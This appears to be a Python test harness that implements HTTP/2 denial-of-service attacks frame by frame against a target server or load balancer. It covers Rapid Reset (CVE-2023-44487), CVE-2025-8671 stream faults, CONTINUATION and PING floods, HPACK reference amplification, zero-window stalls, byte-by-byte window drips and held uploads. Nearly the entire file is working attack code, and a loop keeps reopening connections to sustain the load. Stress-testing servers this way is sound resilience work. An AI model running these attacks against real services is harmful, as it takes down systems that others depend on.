"""Attacks of an HTTP/2 client (RFC 9113), frame by frame, at the public port."""

import struct

from target import Pusher, has_ended

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, PADDED = 1, 4, 8
CANCEL = struct.pack(">I", 8)
INITIAL_WINDOW = 4
# Streams beyond the default of --http2-streams are refused.
STREAMS = 100


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def integer(number, prefix, pattern=0):
    """RFC 7541, 5.1."""
    most = (1 << prefix) - 1
    if number < most:
        return bytes([pattern | number])
    octets = bytes([pattern | most])
    number -= most
    while number >= 128:
        octets += bytes([number & 127 | 128])
        number >>= 7
    return octets + bytes([number])


def literal(name, value, pattern=0x10):
    """A literal field, not indexed by default (RFC 7541, 6.2.3)."""
    return bytes([pattern]) + integer(len(name), 7) + name + integer(len(value), 7) + value


def request(path=b"/", method=b"GET"):
    """The header block of a request."""
    fields = [(b":method", method), (b":scheme", b"https"), (b":authority", b"localhost"), (b":path", path)]
    return b"".join(literal(name, value) for name, value in fields)


def get(stream, path=b"/"):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, request(path))


class Client:
    """One connection. It sends frames without waiting."""

    def __init__(self, target, settings=b""):
        connection = target.secure(target.public, protocols=["h2"])
        if target.certificates and connection.selected_alpn_protocol() != "h2":
            raise ValueError("no HTTP/2")
        connection.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        self.connection = connection
        self.pusher = Pusher(connection)
        self.stream = 1
        self.acts = 0

    def next_streams(self, count):
        streams = range(self.stream, self.stream + 2 * count, 2)
        self.stream += 2 * count
        return streams


def attack(target, count, act, settings=b"", reads=True, most=None):
    """Calls `act(client)` for the next bytes of each of `count` connections. Replaces closed connections.

    A connection that takes the bytes of more than `most` acts is a gain. Socket buffers take up to 10 MB of them.
    """
    clients = []
    while not target.is_over:
        if len(clients) < count:
            try:
                clients.append(Client(target, settings))
            except (OSError, ValueError) as error:
                target.note(type(error).__name__)
        kept = []
        for client in clients:
            try:
                if not client.pusher.pending:
                    begun = client.pusher.push(act(client))
                    client.acts += begun
                    target.did(begun)
                    if most and client.acts > most:
                        target.gained(f"a connection took the bytes of more than {most} acts")
                else:
                    client.pusher.push(b"")
                if reads:
                    client.pusher.drain()
                if not has_ended(client.connection):
                    kept.append(client)
                    continue
            except (OSError, EOFError) as error:
                target.note(type(error).__name__)
            client.connection.close()
        clients = kept


def rapid_resets(target, count, path="/", method="GET"):
    """Begins requests and cancels them at once (CVE-2023-44487)."""

    def act(client):
        head = request(path.encode(), method.encode())
        flags = END_HEADERS if method == "POST" else END_HEADERS | END_STREAM
        return b"".join(frame(HEADERS, flags, stream, head) + frame(RESET, 0, stream, CANCEL) for stream in client.next_streams(50))

    attack(target, count, act)


def cancelled_uploads(target, count):
    """Cancels uploads while their content is in transit."""

    def act(client):
        head = request(b"/echo", b"POST")
        return b"".join(
            frame(HEADERS, END_HEADERS, stream, head) + frame(DATA, 0, stream, bytes(16000)) + frame(RESET, 0, stream, CANCEL)
            for stream in client.next_streams(4)
        )

    attack(target, count, act)


def closed_windows(target, count):
    """Opens a hundred streams on each connection that request much, with closed windows: the balancer may send no content."""
    begin_and_hold(target, count, [(b"/bytes/1073741824", b"GET", b"")] * STREAMS, struct.pack(">HI", INITIAL_WINDOW, 0))


def unread_streams(target, count):
    """Opens a hundred streams on each connection that request much, with the largest windows, and reads nothing."""
    begin_and_hold(
        target, count, [(b"/bytes/1073741824", b"GET", b"")] * STREAMS, struct.pack(">HI", INITIAL_WINDOW, (1 << 31) - 1)
    )


def stalled_uploads(target, count):
    """Begins a hundred uploads on each connection, each with some content and without an end."""
    begin_and_hold(target, count, [(b"/reverse", b"POST", bytes(8000))] * STREAMS)


def small_holders(target, count, source, streams=10):
    """Begins a few uploads without content on each connection, from one source. Each connection holds less than 64 KiB."""
    target.source = source
    begin_and_hold(target, count, [(b"/reverse", b"POST", b"")] * streams)


def held_uploads(target, count, bytes=0):
    """Begins 120 uploads on each connection, with so many bytes of content, and without an end."""
    begin_and_hold(target, count, [(b"/reverse", b"POST", b"x" * bytes)] * 120)


def begin_and_hold(target, count, streams, settings=b""):
    """Begins the streams once on each connection, and then stays silent."""

    def begin():
        client = Client(target, settings)
        client.connection.settimeout(0.5)
        # The connection's own window stays at 64 KiB until the client opens it (RFC 9113, 6.9.2).
        frames = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x3FFFFFFF)) if settings else b""
        for stream, (path, method, content) in zip(client.next_streams(len(streams)), streams):
            flags = END_HEADERS if method == b"POST" else END_HEADERS | END_STREAM
            frames += frame(HEADERS, flags, stream, request(path, method))
            frames += frame(DATA, 0, stream, content) if content else b""
        try:
            client.connection.sendall(frames)
        except TimeoutError:
            pass
        return client.connection

    target.hold(count, begin)


def flood(target, count, kind):
    """Sends frames that are cheap for the sender and carry no request."""
    frames = {
        "ping": frame(PING, 0, 0, bytes(8)) * 500,
        "settings": frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW, 65535)) * 500,
        "priority": frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 16)) * 500,
        "window": frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 500,
        "unknown": frame(0x77, 0, 0, bytes(16)) * 500,
    }

    attack(target, count, lambda client: frames[kind])


def unread_pings(target, count):
    """Sends PINGs and does not read the answers."""
    attack(target, count, lambda client: frame(PING, 0, 0, bytes(8)) * 500, reads=False)


def empty_content(target, count):
    """Sends one upload as DATA frames without content."""

    def act(client):
        start = b""
        if client.stream == 1:
            client.next_streams(1)
            start = frame(HEADERS, END_HEADERS, 1, request(b"/echo", b"POST"))
        return start + frame(DATA, 0, 1) * 500

    attack(target, count, act)


def continuations(target, count):
    """Sends a head without end."""

    def act(client):
        start = b""
        if client.stream == 1:
            client.next_streams(1)
            start = frame(HEADERS, 0, 1, request())
        return start + frame(CONTINUATION, 0, 1, literal(b"x-more", bytes(8).hex().encode())) * 100

    attack(target, count, act)


def unfolding_heads(target, count):
    """Puts a field of 4 KB into the HPACK table once, and refers to it 8,000 times in one head."""

    def act(client):
        stream = client.next_streams(1)[0]
        head = request() + literal(b"x", b"y" * 4000, pattern=0x40)
        # The newest entry of the dynamic table is number 62.
        return frame(HEADERS, END_HEADERS | END_STREAM, stream, head + integer(62, 7, 0x80) * 8000)

    attack(target, count, act)


def content_on_closed_streams(target, count):
    """Sends as much DATA as possible for a closed stream."""

    def act(client):
        start = b""
        if client.stream == 1:
            client.next_streams(1)
            start = get(1) + frame(RESET, 0, 1, CANCEL)
        return start + frame(DATA, 0, 1, b"x") * 500

    attack(target, count, act)


def drips(target, count):
    """Requests much content, and opens the window byte by byte."""

    def act(client):
        if client.stream == 1:
            return b"".join(get(stream, b"/bytes/10000000") for stream in client.next_streams(STREAMS))
        return b"".join(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) for stream in range(1, 2 * STREAMS, 2))

    attack(target, count, act, struct.pack(">HI", INITIAL_WINDOW, 0))


def refused_streams(target, count):
    """Begins as many streams as possible without reading, and then more: each refusal has to wait."""

    def act(client):
        if client.stream == 1:
            streams = client.next_streams(126)
            window = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x3FFFFFFF))
            return window + b"".join(get(stream, b"/bytes/1073741824") for stream in streams)
        return b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream, SMALL) for stream in client.next_streams(1000))

    attack(target, count, act, struct.pack(">HI", INITIAL_WINDOW, (1 << 31) - 1), reads=False, most=200)


# GET https://a/ in references to the static table.
SMALL = bytes([0x82, 0x84, 0x87, 0x41, 1]) + b"a"


def faulty_streams(target, count, kind):
    """Provokes RST_STREAM on stream after stream (CVE-2025-8671)."""

    def act(client):
        begin = b""
        if client.stream == 1:
            field = literal(b"x", b"y" * 3900, pattern=0x40)
            begin = frame(HEADERS, END_STREAM | END_HEADERS, client.next_streams(1)[0], request() + field)
        length = literal(b"content-length", b"1") if kind == "length" else b""
        faults = {
            # The newest entry of the dynamic table is number 62. Three of them exceed --max-trailers.
            "trailers": lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, b"\xbe" * 3),
            "window": lambda stream: frame(WINDOW_UPDATE, 0, stream, bytes(4)),
            "length": lambda stream: frame(DATA, 0, stream, b"xx"),
        }
        return begin + b"".join(
            frame(HEADERS, END_HEADERS, stream, request(b"/reverse", b"POST") + length) + faults[kind](stream)
            for stream in client.next_streams(20)
        )

    attack(target, count, act, most=500)


def padded_content(target, count):
    """Sends one upload as DATA frames that consist of padding."""

    def act(client):
        start = b""
        if client.stream == 1:
            client.next_streams(1)
            start = frame(HEADERS, END_HEADERS, 1, request(b"/echo", b"POST"))
        return start + frame(DATA, PADDED, 1, b"\0") * 1500

    attack(target, count, act, most=1000)


def referring_heads(target, count):
    """Sends heads of thousands of references, each of one byte, below the limit of a header list."""

    def act(client):
        return b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, stream, SMALL + bytes([0x90]) * 7000) for stream in client.next_streams(5)
        )

    attack(target, count, act, most=400)


def refused_heads(target, count):
    """Sends heads that are refused, each with a long list behind a few bytes."""

    def act(client):
        begin = b""
        if client.stream == 1:
            field = literal(b"x", b"y" * 3900, pattern=0x40)
            begin = frame(HEADERS, END_STREAM | END_HEADERS, client.next_streams(1)[0], request() + field)
        return begin + b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, stream, request() + b"\xbe" * 60) for stream in client.next_streams(50)
        )

    attack(target, count, act)


def large_heads(target, count, kind):
    """Begins a hundred uploads on each connection, with heads of 16 KB or trailers of 8 KB that take few bytes."""

    def begin():
        client = Client(target)
        fields = literal(b"x-a", b"y" * 1900, pattern=0x40) + literal(b"x-b", b"z" * 1900, pattern=0x40)
        frames = frame(HEADERS, END_HEADERS | END_STREAM, client.next_streams(1)[0], request() + fields)
        # The two entries of the dynamic table are number 62 and 63.
        repeated = b"\xbe\xbf" * (4 if kind == "head" else 2)
        path = b"/reverse?delay_ms=60000"
        for stream in client.next_streams(STREAMS):
            head = request(path, b"POST") + (repeated if kind == "head" else b"")
            frames += frame(HEADERS, END_HEADERS, stream, head)
            if kind == "head":
                frames += frame(DATA, END_STREAM, stream, b"x")
            else:
                frames += frame(DATA, 0, stream, b"x") + frame(HEADERS, END_HEADERS | END_STREAM, stream, repeated)
        client.connection.sendall(frames)
        return client.connection

    target.hold(count, begin)
